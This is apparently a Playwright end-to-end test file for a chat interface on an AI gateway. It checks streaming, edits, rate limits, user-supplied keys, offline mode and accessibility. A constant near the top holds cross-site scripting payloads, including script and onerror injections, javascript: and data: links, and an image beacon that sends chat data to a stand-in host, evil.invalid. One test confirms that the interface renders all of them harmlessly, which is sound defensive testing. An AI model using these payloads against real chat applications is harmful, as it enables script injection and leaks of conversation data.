import type { Browser, Page } from 'playwright-core';
import { accessibilityFaults, openPage, startChromium } from './support/chromium.js';
import { startGateway, type RunningGateway } from './support/start-gateway.js';
import { startSimulator, type Simulator } from './support/start-simulator.js';

const HOSTILE = `
<script>document.title = 'pwned'</script>
<img src=x onerror="document.title='pwned'">

![beacon](https://evil.invalid/p.png?chat=secret)
[click](javascript:document.title='pwned') and [data](data:text/html,<script>1</script>)

Plain end.`;

describe('chat in a real browser', () => {
  let browser: Browser;
  let simulator: Simulator;
  let gateway: RunningGateway;

  beforeAll(async () => {
    [browser, simulator] = await Promise.all([startChromium(), startSimulator()]);
    gateway = await startGateway({
      AI_GATEWAY_UPSTREAM: simulator.url,
      AI_GATEWAY_UPSTREAMS: 'gone=http://127.0.0.1:1/v1',
      AI_GATEWAY_RETRY_ATTEMPTS: '0',
      AI_GATEWAY_PRICES: JSON.stringify({
        'gpt-4o': { input: 2.5, output: 10 },
        'gpt-4o-mini': { input: 0.15, output: 0.6 },
      }),
    });
  });

  afterAll(async () => {
    await browser.close();
    await gateway.close();
    await simulator.close();
  });

  beforeEach(() => simulator.reset());
  afterEach(() => Promise.all(browser.contexts().map((context) => context.close())));

  const open = (path = '/', options = {}) => openPage(browser, `${gateway.origin}${path}`, options);
  const openWith = (model: string) => open(`/chat?model=${encodeURIComponent(model)}`);

  it('answers a first visitor with the demo model', async () => {
    const { page, complaints, foreignRequests } = await open();
    await page.getByRole('button', { name: /server-sent event/ }).click();
    await page.keyboard.press('Enter');
    await answerEnded(page);
    await expectText(answers(page), /demo · [\d,]+ in, [\d,]+ out · \$0 · first token/);
    expect(new URL(page.url()).pathname).toMatch(/^\/chat\/\w+$/);
    expect([complaints, foreignRequests]).toEqual([[], []]);
  });

  it('streams, and a stop closes the call at the upstream', async () => {
    simulator.script('gpt-4o', { answer: 'word '.repeat(500), tokensPerSecond: 40 });
    const { page } = await openWith('gpt-4o');
    await ask(page, 'Tell me a lot');
    await answers(page).getByText('word word word').waitFor();
    await page.keyboard.press('Escape');
    await page.getByText(/Stopped by you · \d+ ≈ tokens/).waitFor();
    const call = await simulator.waitFor(({ model, ending }) => model === 'gpt-4o' && ending === 'aborted');
    expect(call.eventsSent).toBeLessThan(500);
    expect(call.json).toMatchObject({ stream: true, stream_options: { include_usage: true } });
  });

  it('keeps the old question and its answer when one is edited', async () => {
    simulator.script('gpt-4o', { answer: 'First answer.' }, { answer: 'Second answer.' });
    const { page } = await openWith('gpt-4o');
    await ask(page, 'First question');
    await answers(page).getByText('First answer.').waitFor();
    await answerEnded(page);
    await composer(page).press('ArrowUp');
    await page.getByRole('textbox', { name: 'Edit the question' }).fill('Second question');
    await page.keyboard.press('Enter');
    await answers(page).getByText('Second answer.').waitFor();
    await page.getByLabel('Version 2 of 2').waitFor();
    await page.getByRole('button', { name: 'Previous question' }).click();
    await answers(page).getByText('First answer.').waitFor();
    expect(await answers(page).getByText('Second answer.').count()).toBe(0);
    // The side that was looked at last is shown again after a reload.
    await page.reload();
    await answers(page).getByText('First answer.').waitFor();
  });

  it('keeps what had arrived when the page is reloaded in the middle of an answer', async () => {
    simulator.script('gpt-4o', { answer: 'kept '.repeat(400), tokensPerSecond: 50 });
    const { page } = await openWith('gpt-4o');
    await ask(page, 'A long story');
    await answers(page).getByText('kept kept kept kept kept').waitFor();
    await page.reload();
    await page.getByText(/Interrupted by a reload · \d+ words? kept/).waitFor();
    await page.getByRole('button', { name: 'Continue' }).waitFor();
    await simulator.waitFor(({ ending }) => ending === 'aborted');
    // Tokens and cost come from the gateway's record.
    await page.getByText(/\d+ in, \d+ ≈ out/).waitFor();
  });

  it('counts a 429 down and sends when free, once asked to', async () => {
    simulator.script('gpt-4o', { status: 429, retryAfter: { ms: 1500 } }, { answer: 'Free again.' });
    const { page } = await openWith('gpt-4o');
    await ask(page, 'Too fast?');
    await page.getByText(/Free again in 0:0\d/).waitFor();
    await page.getByRole('button', { name: 'Send when free' }).click();
    await answers(page).getByText('Free again.', { exact: true }).waitFor();
    expect(simulator.calls()).toHaveLength(2);
  });

  it('says that an upstream cannot be reached, and what to do', async () => {
    const { page } = await openWith('gone/some-model');
    await ask(page, 'Anybody there?');
    await page.getByText('gone cannot be reached', { exact: false }).first().waitFor();
    for (const name of ['Try again', 'Other model', 'Record']) {
      await page.getByRole('button', { name, exact: true }).waitFor();
    }
    await page.getByRole('button', { name: 'Other model', exact: true }).click();
    await page.getByRole('dialog', { name: 'Answer with…' }).getByRole('option', { name: /^demo/ }).click();
    await answerEnded(page);
    await page.getByLabel('Version 2 of 2').waitFor();
  });

  it('sends the reader’s own key to the gateway, keeps it for the tab, and shows its end only', async () => {
    const { page } = await openWith('gpt-4o');
    await page.getByRole('button', { name: 'Use my own key' }).click();
    await page.getByLabel('Key', { exact: true }).fill(' Bearer sk-own-secret-wxyz ');
    await page.getByRole('button', { name: 'Use this key' }).click();
    await page.getByText('●●●●wxyz').waitFor();
    await ask(page, 'With my key');
    const call = await simulator.waitFor(({ path }) => path === '/v1/chat/completions');
    expect(call.headers.authorization).toBe('Bearer sk-own-secret-wxyz');
    await answerEnded(page);
    expect(
      await page.evaluate<string>('JSON.stringify(localStorage) + location.href + document.body.innerHTML'),
    ).not.toContain('sk-own-secret');
    await page.reload();
    await page.getByText('●●●●wxyz').waitFor();
  });

  it('lets markdown of a hostile model neither run, load nor lead anywhere', async () => {
    simulator.script('gpt-4o', { answer: HOSTILE });
    const { page, foreignRequests, complaints } = await openWith('gpt-4o');
    await ask(page, 'Attack me');
    await answers(page).getByText('Plain end.').waitFor();
    await answerEnded(page);
    await page.getByText('Picture “beacon” at evil.invalid, not loaded').waitFor();
    expect(await page.title()).not.toBe('pwned');
    expect(
      await page.locator('article a[href^="javascript"], article a[href^="data"], article img, article script').count(),
    ).toBe(0);
    // No report of the Content-Security-Policy either: nothing was even tried.
    expect([foreignRequests, complaints]).toEqual([[], []]);
  });

  it('keeps the question while offline and sends it when back, after one tap', async () => {
    simulator.script('gpt-4o', { answer: 'Back again.' });
    const { page } = await openWith('gpt-4o');
    await composer(page).waitFor();
    await page.context().setOffline(true);
    await page.getByText('No connection to the gateway. Your text is safe.').first().waitFor();
    await ask(page, 'Into the dark');
    await page.getByRole('button', { name: 'Send when back' }).click();
    await page.getByText('Will be sent when the gateway answers again.').waitFor();
    await page.context().setOffline(false);
    await answers(page).getByText('Back again.').waitFor();
  });

  it('does not scroll by itself: the question stays at the top while the answer grows', async () => {
    simulator.script('gpt-4o', { answer: 'A line of text.\n\n'.repeat(120), tokensPerSecond: 400 });
    const { page } = await openWith('gpt-4o');
    await ask(page, 'Grow');
    await page.getByRole('button', { name: 'Latest' }).waitFor();
    const top = () => page.evaluate<number>(`document.querySelector('[aria-label="Conversation"]').scrollTop`);
    const before = await top();
    await answerEnded(page);
    expect(await top()).toBe(before);
    await page.getByRole('button', { name: 'Latest' }).click();
    expect(await top()).toBeGreaterThan(before);
  });

  it('asks several models at once and names the fastest', async () => {
    simulator.script('gpt-4o', { answer: 'Quick.' });
    simulator.script('gpt-4o-mini', { answer: 'Slow.', headersAfterMs: 300 });
    const { page } = await open('/compare?m=gpt-4o&m=gpt-4o-mini');
    await page.getByRole('textbox', { name: 'Message to all models' }).fill('Race');
    await page.keyboard.press('Enter');
    await expectText(page.getByRole('region', { name: 'gpt-4o', exact: true }), /done, fastest/);
    await expectText(page.getByRole('region', { name: 'gpt-4o-mini', exact: true }), /cheapest/);
    await page
      .getByRole('region', { name: 'gpt-4o', exact: true })
      .getByRole('button', { name: 'Continue here' })
      .click();
    await page.waitForURL(/\/chat\/\w+$/);
    await answers(page).getByText('Quick.').waitFor();
  });

  it('works by keyboard alone, and a screen reader hears the answer once', async () => {
    simulator.script('gpt-4o', { answer: 'Spoken **once**.' });
    const { page } = await openWith('gpt-4o');
    await composer(page).waitFor();
    await page.keyboard.type('Say it');
    await page.keyboard.press('Enter');
    await page
      .getByRole('status')
      .filter({ hasText: /^Spoken once\.$/ })
      .waitFor({ state: 'attached' });
    await answerEnded(page);
    expect(await page.evaluate<string>(`document.activeElement.getAttribute('aria-label')`)).toBe('Message');
    await page.keyboard.press('Control+k');
    await page.keyboard.type('Say');
    await page.getByRole('option', { name: /Say it/ }).waitFor();
    await page.keyboard.press('Escape');
    await page.keyboard.press('Control+Shift+o');
    await page.waitForURL(/\/chat$/);
  });

  it.each(['light', 'dark'] as const)('has no accessibility fault in the %s theme', async (colorScheme) => {
    const { page } = await open('/chat', { colorScheme });
    await composer(page).waitFor();
    expect(await accessibilityFaults(page)).toEqual([]);
    await ask(page, 'Show me code and a table');
    await answerEnded(page);
    expect(await accessibilityFaults(page)).toEqual([]);
    for (const path of ['/compare', '/settings', '/sign-in']) {
      await page.goto(`${gateway.origin}${path}`);
      await page.getByRole('main').waitFor();
      expect(await accessibilityFaults(page)).toEqual([]);
    }
  });

  it('fits a screen of 360 px and text of 200 %', async () => {
    const { page } = await open('/chat', { viewport: { width: 360, height: 740 } });
    await ask(page, 'Show me code and a table');
    await answerEnded(page);
    const width = () => page.evaluate<number>('document.documentElement.scrollWidth');
    expect(await width()).toBe(360);
    await page.setViewportSize({ width: 720, height: 450 });
    expect(await width()).toBe(720);
  });
});

function composer(page: Page) {
  return page.getByRole('textbox', { name: 'Message', exact: true });
}

function answers(page: Page) {
  return page.getByRole('article', { name: 'Answer' });
}

async function ask(page: Page, question: string): Promise<void> {
  await composer(page).fill(question);
  await composer(page).press('Enter');
}

/** The last answer shows its record: it has ended and was settled. */
async function answerEnded(page: Page): Promise<void> {
  await answers(page).last().getByRole('button', { name: 'Regenerate', exact: true }).waitFor();
}

async function expectText(locator: ReturnType<Page['locator']>, pattern: RegExp): Promise<void> {
  await locator.filter({ hasText: pattern }).first().waitFor();
}
